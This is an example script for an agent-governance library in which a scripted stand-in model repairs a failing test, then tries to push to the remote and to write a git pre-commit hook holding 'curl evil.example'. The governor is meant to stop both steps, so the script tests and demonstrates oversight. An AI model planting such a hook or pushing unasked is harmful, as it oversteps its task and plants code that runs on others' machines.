"""A coding agent repairs a failing test without a question: what its commands would change is seen
before it happens. It is stopped at a push and at a hook.
"""

from __future__ import annotations

import sys
import tempfile
from pathlib import Path
from typing import Any

from langchain.agents import create_agent
from langchain_core.language_models import BaseChatModel
from langchain_core.messages import AIMessage, ToolMessage
from langchain_core.outputs import ChatGeneration, ChatResult
from langchain_core.tools import tool

from agenttool_otel import AgentToolMiddleware, Governor, agent_context, run_command
from agenttool_otel.enforcement.rehearsal import rehearsal_failure

PLACE = Path(tempfile.mkdtemp())
CHECKOUT = PLACE / "shop"
STATE = PLACE / "state"
"""Where what a command would change lies until it is decided: outside of what it may change."""

TEST = f"{Path(sys.executable).name} -m unittest -q test_shop"
READ_AND_WRITE = "text = open('shop.py').read(); open('shop.py', 'w').write"
REPAIR = f"python3 -c \"{READ_AND_WRITE}(text.replace('a - b', 'a + b  # a sum'))\""
SCRIPT = [
    TEST,
    REPAIR,
    TEST,
    "git push origin main",
    "python3 -c \"open('.git/hooks/pre-commit', 'w').write('curl evil.example')\"",
]


class Scripted(BaseChatModel):
    """Stands for a model: it tests, repairs, tests again, and then wants too much."""

    @property
    def _llm_type(self) -> str:
        return "example"

    def bind_tools(self, tools: Any, **kwargs: Any) -> Scripted:
        return self

    def _generate(
        self, messages: Any, stop: Any = None, run_manager: Any = None, **kwargs: Any
    ) -> ChatResult:
        step = sum(isinstance(message, AIMessage) for message in messages)
        if step == len(SCRIPT):
            return ChatResult(generations=[ChatGeneration(message=AIMessage("done"))])
        call = {"name": "shell", "args": {"command": SCRIPT[step]}, "id": f"call-{step}"}
        return ChatResult(generations=[ChatGeneration(message=AIMessage("", tool_calls=[call]))])


@tool
def shell(command: str) -> str:
    """Run a shell command in the checkout."""
    done = run_command(command, cwd=CHECKOUT, timeout=60)
    return f"exit status {done.status}\n{done.text}"


def make_checkout() -> None:
    CHECKOUT.mkdir()
    (CHECKOUT / "shop.py").write_text("def total(a, b):\n    return a - b\n")
    (CHECKOUT / "test_shop.py").write_text(
        "import unittest\n\nimport shop\n\n\nclass Total(unittest.TestCase):\n"
        "    def test_it_adds(self):\n        self.assertEqual(shop.total(2, 3), 5)\n"
    )
    run_command("git init -q", cwd=CHECKOUT)


def main() -> None:
    failure = rehearsal_failure(STATE)
    if failure:
        print(f"nothing can be rehearsed on this host: {failure}")
        return
    make_checkout()
    governor = Governor(policy_preset="coding", rehearsals_dir=str(STATE))
    governed = governor.govern(
        shell,
        tool_kind="shell_command",
        access_kinds=["file_read", "file_write", "code_execution"],
        command_args=["command"],
        read_only="classifier:command_read_only",
        destructive="classifier:command_destructive",
        runs_commands=True,
    )
    agent = create_agent(Scripted(), [governed], middleware=[AgentToolMiddleware(governor)])
    with agent_context(
        actor="agent:coder", session_id="s-1", roots=[str(CHECKOUT)], cwd=str(CHECKOUT)
    ):
        answer: Any = agent.invoke({"messages": [("user", "Repair the failing test.")]})
    for message in answer["messages"]:
        if isinstance(message, ToolMessage):
            number = int(message.tool_call_id.removeprefix("call-"))
            print(f"$ {SCRIPT[number]}")
            print(f"{message.status}: {str(message.content).splitlines()[0]}")
    print((CHECKOUT / "shop.py").read_text().strip())
    print("a hook was written:", (CHECKOUT / ".git" / "hooks" / "pre-commit").exists())


if __name__ == "__main__":
    main()
